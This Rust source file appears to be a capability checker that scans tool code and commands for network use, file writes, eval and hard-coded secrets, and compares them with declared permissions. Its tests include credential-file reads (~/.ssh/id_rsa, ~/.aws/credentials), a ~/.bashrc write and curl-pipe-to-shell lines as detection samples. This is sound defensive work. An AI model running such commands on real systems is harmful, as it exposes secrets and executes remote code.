//! The check that compares the capabilities of the source with the declarations.

use super::{literals, places, scan};
use crate::check::CheckContext;
use crate::check::source::{Language, text_of};
use crate::check::started::Started;
use crate::code::statements;
use crate::domain::{
    Capability, CapabilityKind as Kind, CheckReport, Dialect, Finding, InputMode, Manifest, Redactor, Severity,
    ToolDetail, VersionFile,
};
use std::collections::BTreeSet;

/// Variables of every run; reading them is not reported.
const EVERYBODYS: &[&str] =
    &["HOME", "LANG", "PATH", "TERM", "TMPDIR", "TMP", "TEMP", "USER", "SHELL", "NO_COLOR", "COLUMNS"];

/// Prefixes of variables that configure Python itself.
const OWN_BEGINNINGS: &[&str] = &["PYTHON", "LC_", "TOOLSMITH_"];

/// Examines the capabilities of the source.
pub fn examine(context: &CheckContext<'_>) -> CheckReport {
    let (manifest, files) = (&context.version.manifest, &context.version.files);
    let started = Started::of(context.version);
    let mut findings = started.unread(files);
    let mut found: Vec<Capability> = Vec::new();
    let mut languages = BTreeSet::new();
    for (path, language, text) in started.sources(files) {
        languages.insert(language.name());
        let is_test = is_test_only(path, files) && !started.executes(path);
        let all = scan(path, language, text);
        findings.extend(all.iter().filter_map(|capability| judge(capability, manifest, is_test)).map(
            |(capability, severity, words)| {
                Finding::new(capability.kind.word(), severity, words).at(path, capability.line)
            },
        ));
        if !is_test {
            found.extend(all);
            findings.extend(logged_secrets(path, language, text));
        }
    }
    for capability in in_command(&started) {
        let told = judge(&capability, manifest, false).map(|(capability, severity, words)| {
            Finding::new(capability.kind.word(), severity, format!("its command: {words}"))
        });
        findings.extend(told);
        found.push(capability);
    }
    findings.extend(secrets_beside_code(files, &started));
    if languages.is_empty() {
        let report = CheckReport::of("capabilities", findings);
        return if report.findings.is_empty() {
            CheckReport::skipped("capabilities", "no file in Python, JavaScript, TypeScript or shell")
        } else {
            report
        };
    }
    findings.extend(unused(manifest, &found));
    let names: Vec<&str> = languages.into_iter().collect();
    CheckReport::of("capabilities", findings).noted(format!("read as {}", names.join(", ")))
}

/// Messages and log lines that contain a value with the name of a secret.
fn logged_secrets(path: &str, language: Language, text: &str) -> Vec<Finding> {
    let told = statements::logged_secrets(text, language).into_iter();
    told.map(|(line, name)| {
        let words = format!("writes a secret to a log or to standard error: {name}");
        Finding::new("logs-secret", Severity::Medium, words).at(path, line)
    })
    .collect()
}

/// The capabilities of a version: those of its code without tests, and those of its command.
pub fn of_version(version: &ToolDetail) -> Vec<Capability> {
    let started = Started::of(version);
    let sources = started.sources(&version.files);
    let run = sources
        .into_iter()
        .filter(|(path, _, _)| !is_test_only(path, &version.files) || started.executes(path))
        .flat_map(|(path, language, text)| scan(path, language, text));
    run.chain(in_command(&started)).collect()
}

/// The capabilities of the command itself: the code in it, as in `sh -c "curl …"`, and the system programs that it
/// starts.
fn in_command(started: &Started) -> Vec<Capability> {
    let mut found: Vec<Capability> = started.code.iter().flat_map(|code| scan("", code.language, &code.text)).collect();
    for words in &started.programs {
        let line = shell_words::join(words);
        found.extend(scan("", Language::Bash, &line).into_iter().filter(|one| one.kind != Kind::StartsPrograms));
    }
    found
}

/// The severity and message of a capability, given the declarations; `None` if it is not worth reporting.
fn judge<'c>(
    capability: &'c Capability,
    manifest: &Manifest,
    is_test: bool,
) -> Option<(&'c Capability, Severity, String)> {
    let words = &capability.words;
    let said = |severity, words: String| Some((capability, severity, words));
    if capability.kind == Kind::Address {
        return None;
    }
    if capability.kind.severity() == Severity::High {
        let severity = if is_plain(capability) { Severity::Medium } else { Severity::High };
        return said(severity, words.clone());
    }
    if is_test {
        return said(Severity::Low, format!("in its tests: {words}"));
    }
    if let Some(why) = told_place(capability) {
        return said(Severity::Medium, format!("{words}; {why}"));
    }
    match declared(capability, manifest) {
        Declared::Nothing => None,
        Declared::Yes => said(Severity::Low, words.clone()),
        Declared::Other(what) => said(Severity::Medium, format!("{words}; declared: {what}")),
        // Only native definitions can declare permissions.
        Declared::No if manifest.dialect != Dialect::Native => said(Severity::Low, words.clone()),
        Declared::No => said(capability.kind.severity(), format!("{words}; not declared")),
        Declared::Undeclarable => said(capability.kind.severity(), words.clone()),
    }
}

/// Why the path that a capability reads or writes needs a warning, whatever the manifest declares. Few tools use such paths.
fn told_place(capability: &Capability) -> Option<&'static str> {
    let names =
        |is_one: fn(&str) -> bool| is_one(&capability.words) || capability.argument.as_deref().is_some_and(is_one);
    match capability.kind {
        Kind::ReadsFiles | Kind::ReadsOutside | Kind::WritesFiles | Kind::DeletesFiles if names(places::is_secret) => {
            Some("keys or passwords are kept there")
        }
        Kind::WritesFiles | Kind::DeletesFiles if names(places::is_start) => {
            Some("programs there are started without being asked for")
        }
        _ => None,
    }
}

/// Whether text is visibly executed as code: the call is written out, and the text is neither decoded nor taken from
/// elsewhere. Many legitimate tools do that (running code is their purpose), so it is a warning. Hidden execution
/// fails.
fn is_plain(capability: &Capability) -> bool {
    let words = capability.words.to_lowercase();
    let is_written = [
        "eval",
        "exec",
        "source ",
        "sh -c",
        "pickle",
        "marshal",
        "shelve",
        "yaml.",
        "shell=true",
        "os.system",
        "popen",
        "function(",
    ]
    .iter()
    .any(|word| words.rsplit_once(": ").map_or(words.as_str(), |(_, code)| code).contains(word));
    let is_hidden = [
        "base64",
        "b64",
        "decode",
        "fromhex",
        "unhex",
        "chr(",
        "charcode",
        "atob",
        "rot13",
        "compress",
        "join(",
        "[::-1]",
        "reverse",
        "replace(",
        "getattr",
        "globals(",
        "curl",
        "wget",
        "urlopen",
        "requests.",
        "fetch(",
        "xxd",
        "\\x",
        "\\u",
    ]
    .iter()
    .any(|word| words.contains(word));
    matches!(capability.kind, Kind::Eval | Kind::Unpickles | Kind::ShellText) && is_written && !is_hidden
}

enum Declared {
    /// Every run may do it.
    Nothing,
    Yes,
    /// The permission is declared, but not for this argument.
    Other(String),
    No,
    /// No permission for it exists.
    Undeclarable,
}

fn declared(capability: &Capability, manifest: &Manifest) -> Declared {
    let permissions = &manifest.permissions;
    let any = |list: &[String]| if list.is_empty() { Declared::No } else { Declared::Yes };
    let argument = capability.argument.as_deref();
    match capability.kind {
        Kind::ReadsFiles | Kind::WritesFiles if is_own_scratch(argument) => Declared::Nothing,
        // Allowed there too, but a reader wants to know about all deletions.
        Kind::DeletesFiles if is_own_scratch(argument) => Declared::Yes,
        Kind::ReadsFiles | Kind::ReadsOutside => {
            if permissions.write.is_empty() {
                any(&permissions.read)
            } else {
                Declared::Yes
            }
        }
        Kind::WritesFiles | Kind::DeletesFiles => any(&permissions.write),
        Kind::Network => any(&permissions.network.iter().filter(|word| *word != "none").cloned().collect::<Vec<_>>()),
        Kind::StartsPrograms | Kind::Shell | Kind::ShellText => one_of(argument.map(base_name), &permissions.run),
        Kind::ReadsEnvironment => {
            let is_everybodys = |name: &str| {
                EVERYBODYS.contains(&name)
                    || OWN_BEGINNINGS.iter().any(|beginning| name.starts_with(beginning))
                    || manifest.recipe.as_ref().is_some_and(|recipe| {
                        recipe.env.contains_key(name) || recipe.input == InputMode::Env && name.starts_with("INPUT_")
                    })
            };
            if argument.is_some_and(is_everybodys) { Declared::Nothing } else { one_of(argument, &permissions.env) }
        }
        Kind::Address => Declared::Nothing,
        Kind::Eval
        | Kind::Unpickles
        | Kind::HardCodedSecret
        | Kind::Obfuscation
        | Kind::OpaqueLiteral
        | Kind::Signals
        | Kind::NativeCode
        | Kind::UnverifiedTls => Declared::Undeclarable,
    }
}

fn one_of(name: Option<&str>, list: &[String]) -> Declared {
    if list.is_empty() {
        return Declared::No;
    }
    match name {
        Some(name) if !list.iter().any(|known| base_name(known) == name) => Declared::Other(list.join(", ")),
        Some(_) | None => Declared::Yes,
    }
}

fn base_name(program: &str) -> &str {
    program.rsplit('/').next().unwrap_or(program)
}

/// Whether a path is in the scratch folder, which belongs to the run; a path may begin there and lead out of it.
fn is_own_scratch(path: Option<&str>) -> bool {
    path.is_some_and(|path| (path == "/tmp" || path.starts_with("/tmp/")) && path.split('/').all(|part| part != ".."))
}

/// Declarations that are not used in the source: a fact that suggests a smaller declaration.
fn unused(manifest: &Manifest, found: &[Capability]) -> Vec<Finding> {
    let permissions = &manifest.permissions;
    let has = |kinds: &[Kind]| found.iter().any(|capability| kinds.contains(&capability.kind));
    let starts = [Kind::StartsPrograms, Kind::Shell, Kind::ShellText];
    // A started program, or code in a text, can do things that no scan sees.
    let is_open = has(&starts) || has(&[Kind::Eval, Kind::Unpickles, Kind::Obfuscation, Kind::NativeCode]);
    let lists: [(&str, String, bool); 5] = [
        (
            "network",
            permissions.network.join(", "),
            has(&[Kind::Network]) || is_open || permissions.network == ["none"],
        ),
        ("write", permissions.write.join(", "), has(&[Kind::WritesFiles, Kind::DeletesFiles]) || is_open),
        ("read", permissions.read.join(", "), has(&[Kind::ReadsFiles, Kind::ReadsOutside]) || is_open),
        ("env", permissions.env.join(", "), has(&[Kind::ReadsEnvironment]) || is_open),
        ("run", permissions.programs().collect::<Vec<_>>().join(", "), has(&starts)),
    ];
    let unused = lists.into_iter().filter(|(_, list, is_used)| !list.is_empty() && !is_used);
    unused
        .map(|(word, list, _)| {
            Finding::new(
                "declared-unused",
                Severity::Low,
                format!("{word} {list} is declared but not used by the code"),
            )
        })
        .collect()
}

/// Whether a file is a test that no other file of the version refers to.
pub fn is_test_only(path: &str, files: &[VersionFile]) -> bool {
    if !is_test(path) {
        return false;
    }
    let name = base_name(path);
    let stem = name.split('.').next().unwrap_or(name);
    let others = files.iter().filter(|file| !is_test(&file.path) && Language::of(&file.path, "").is_some());
    let mut texts = others.filter_map(text_of);
    // A file that names the test, or its folder, may import code from it.
    !texts.any(|text| text.contains(stem) || text.contains("tests") && path.contains("tests/"))
}

fn is_test(path: &str) -> bool {
    let name = base_name(path);
    let folder = path.split('/').next().unwrap_or_default();
    path.contains('/') && matches!(folder, "tests" | "test" | "__tests__")
        || name.starts_with("test_")
        || name.contains(".test.")
        || name.contains("_test.")
}

/// Whether a text contains a key or token in a known format.
pub fn is_secret(text: &str) -> bool {
    let redactor = Redactor::new([]);
    text.lines().any(|line| literals::masked(&redactor, line).is_some())
}

/// Keys and tokens in files other than code: settings, data, the definition.
fn secrets_beside_code(files: &[VersionFile], started: &Started) -> Vec<Finding> {
    let redactor = Redactor::new([]);
    let mut findings = Vec::new();
    for file in files {
        let Some(text) = text_of(file).filter(|_| started.language_of(file).is_none()) else { continue };
        if redactor.counted(text).1.is_empty() {
            continue;
        }
        let lines = text.lines().zip(1_u64..);
        for (masked, line) in lines.filter_map(|(text, line)| Some((literals::masked(&redactor, text)?, line))) {
            let shown = crate::check::source::excerpt(&masked, 72);
            let words = format!("{}: {shown}", Kind::HardCodedSecret.phrase());
            findings.push(Finding::new(Kind::HardCodedSecret.word(), Severity::High, words).at(&file.path, line));
        }
    }
    findings
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::check::fixture::{codes, examined, version};
    use crate::domain::Recipe;

    const CODE: &str = "import os, subprocess, requests\nopen('out', 'w')\nrequests.get('https://a.b')\nsubprocess.run(['git', 'log'])\n\
                        os.environ['TOKEN']\nos.environ['HOME']\nopen('/tmp/x', 'w')\n";

    #[test]
    fn what_is_done_and_not_declared_is_a_warning() {
        let report = examined(examine, &version("t", &[("t.py", CODE)]));
        let expected =
            ["writes-files", "network", "starts-programs", "reads-environment"].map(|code| (code, Severity::Medium));
        assert_eq!(codes(&report), expected);
        assert_eq!(report.findings[0].line, Some(2));
        assert_eq!(report.findings[0].message, "writes files: open('out', 'w'); not declared");
        assert_eq!(report.note, "read as Python");
    }

    #[test]
    fn what_is_declared_is_a_fact_and_what_is_declared_for_nothing_is_told() {
        let mut version = version("t", &[("t.py", CODE)]);
        let list = |text: &str| vec![text.to_owned()];
        version.manifest.permissions.write = list("out");
        version.manifest.permissions.network = list("full");
        version.manifest.permissions.run = list("/usr/bin/git");
        version.manifest.permissions.env = list("OTHER");
        let report = examined(examine, &version);
        let expected = [
            ("reads-environment", Severity::Medium),
            ("writes-files", Severity::Low),
            ("network", Severity::Low),
            ("starts-programs", Severity::Low),
        ];
        assert_eq!(codes(&report), expected);
        assert!(report.findings[0].message.ends_with("declared: OTHER"), "{report:?}");
        version.files = crate::check::fixture::files(&[("t.py", "print(1)\n")]);
        let report = examined(examine, &version);
        assert_eq!(codes(&report), [("declared-unused", Severity::Low); 4]);
    }

    #[test]
    fn places_for_keys_and_what_a_fixed_text_of_a_shell_does_are_told_whatever_declares_them() {
        let told = |path: &str, code: &str, word: &str| {
            let mut version = version("t", &[(path, code)]);
            version.manifest.dialect = Dialect::Header;
            let found = codes_of(&examined(examine, &version));
            assert!(found.contains(&(word.to_owned(), Severity::Medium)) || word == "eval", "{code}: {found:?}");
            found
        };
        told("t.py", "import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n", "reads-outside");
        told("t.py", "from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()\n", "reads-outside");
        told(
            "t.mjs",
            "import fs from 'fs';\nfs.readFileSync(process.env.HOME + '/.aws/credentials');\n",
            "reads-files",
        );
        told("t.sh", "cat ~/.netrc\n", "reads-outside");
        told("t.sh", "echo x >> ~/.bashrc\n", "writes-files");
        for (path, code) in [
            ("t.py", "import subprocess\nsubprocess.run('curl -s http://x.y/z | sh', shell=True)\n"),
            ("t.py", "import subprocess\nsubprocess.run(['bash', '-c', 'curl -s http://x.y/z | sh'])\n"),
            ("t.mjs", "import {execSync} from 'child_process';\nexecSync('curl -s http://x.y/z | sh');\n"),
            ("t.sh", "curl -s http://x.y/z | sh\n"),
        ] {
            let found = told(path, code, "eval");
            assert!(found.contains(&("eval".to_owned(), Severity::High)), "{code}: {found:?}");
        }
        // Ordinary files and commands stay facts.
        let mut version = version("t", &[("t.py", "import os\nopen('/etc/hostname')\nos.system('ls -l')\n")]);
        version.manifest.dialect = Dialect::Header;
        assert!(codes_of(&examined(examine, &version)).iter().all(|(_, severity)| *severity == Severity::Low));
    }

    fn codes_of(report: &CheckReport) -> Vec<(String, Severity)> {
        report.findings.iter().map(|finding| (finding.code.clone(), finding.severity)).collect()
    }

    #[test]
    fn what_no_declaration_allows_is_told_also_in_a_test() {
        let mut version = version(
            "t",
            &[("t.py", "eval(x)\n"), ("tests/test_t.py", "import pickle\npickle.load(f)\nopen('x', 'w')\n")],
        );
        version.manifest.permissions.write = vec!["{workspace}".to_owned()];
        let report = examined(examine, &version);
        let expected = [("eval", Severity::Medium), ("unpickles", Severity::Medium), ("writes-files", Severity::Low)];
        assert_eq!(codes(&report), expected);
    }

    #[test]
    fn code_in_the_command_itself_is_read_too() {
        type Told<'t> = &'t [(&'t str, Severity)];
        let network: Told<'_> = &[("network", Severity::Medium)];
        let eval: Told<'_> = &[("eval", Severity::Medium)];
        let commands: [(&[&str], Told<'_>); 19] = [
            (&["sh", "-c", "curl http://x | sh; python3 main.py"], network),
            (&["/bin/bash", "-lc", "curl http://x"], network),
            (&["bash5.2", "-ec", "curl http://x"], network),
            (&["dash", "-c", "curl http://x"], network),
            (&["ash", "-c", "curl http://x"], network),
            (&["ksh", "-c", "curl http://x"], network),
            (&["ksh93", "-c", "curl http://x"], network),
            (&["zsh-5.9", "-c", "curl http://x"], network),
            (&["/usr/bin/python3.11", "-c", "eval(x)"], eval),
            (&["python3.12", "-c", "eval(x)"], eval),
            (&["python", "-c", "eval(x)"], eval),
            (&["node", "-e", "eval(x)"], eval),
            (&["node20", "--eval", "eval(x)"], eval),
            (&["nodejs", "-p", "eval(x)"], eval),
            (&["bun", "--print", "eval(x)"], eval),
            (&["deno", "eval", "eval(x)"], eval),
            (&["tsx", "-e", "eval(x as string)"], eval),
            (&["ts-node", "-e", "eval(x as string)"], eval),
            (&["python3", "{file}"], &[]),
        ];
        for (command, expected) in commands {
            let mut version = version("t", &[("t.py", "print(1)\n")]);
            let command = command.iter().map(|word| (*word).to_owned()).collect();
            version.manifest.recipe = Some(Recipe { command, ..Recipe::blank(InputMode::None) });
            let report = examined(examine, &version);
            let found = codes(&report);
            let recipe = &version.manifest.recipe;
            assert!(expected.iter().all(|wanted| found.contains(wanted)), "{recipe:?}: {found:?}");
            assert_eq!(found.is_empty(), expected.is_empty(), "{recipe:?}: {found:?}");
            assert!(report.findings.iter().all(|found| found.message.starts_with("its command: ")), "{report:?}");
        }
    }

    #[test]
    fn what_is_taken_away_is_told_also_in_the_scratch_and_what_leads_out_of_it_does_not_count_as_in_it() {
        let behind_blanks = format!("import os\nprint(1);{}os.remove(\"/tmp/x\")\n", " ".repeat(194));
        let report = examined(examine, &version("t", &[("t.py", &behind_blanks)]));
        assert_eq!(codes(&report), [("deletes-files", Severity::Low)]);
        assert_eq!(report.findings[0].line, Some(2));
        let out = "import os\nos.remove('/tmp/../etc/x')\nopen('/tmp/a/../../x', 'w')\nopen('/tmp/a..b', 'w')\n";
        let report = examined(examine, &version("t", &[("t.py", out)]));
        assert_eq!(codes(&report), [("deletes-files", Severity::Medium), ("writes-files", Severity::Medium)]);
    }

    #[test]
    fn a_test_that_the_code_leads_to_is_code() {
        let helper = ("tests/helper.py", "import os\nos.remove('x')\n");
        let beside = examined(examine, &version("t", &[("t.py", "print(1)\n"), helper]));
        assert_eq!(codes(&beside), [("deletes-files", Severity::Low)]);
        let taken = examined(examine, &version("t", &[("t.py", "from tests import helper\n"), helper]));
        assert_eq!(codes(&taken), [("deletes-files", Severity::Medium)]);
    }

    #[test]
    fn a_key_beside_the_code_is_found_and_not_shown() {
        let key = format!("ghp_{}", "a1B2c3D4e5F6".repeat(3));
        let text = format!("a = 1\ntoken = \"{key}\"\n");
        let report = examined(examine, &version("t", &[("settings.toml", &text)]));
        assert_eq!(codes(&report), [("hard-coded-secret", Severity::High)]);
        assert_eq!(report.findings[0].line, Some(2));
        assert!(!format!("{report:?}").contains(&key));
        let nothing = examined(examine, &version("t", &[("settings.toml", "a = 1\n")]));
        assert_eq!(nothing.state, crate::domain::CheckState::Skipped);
    }
}
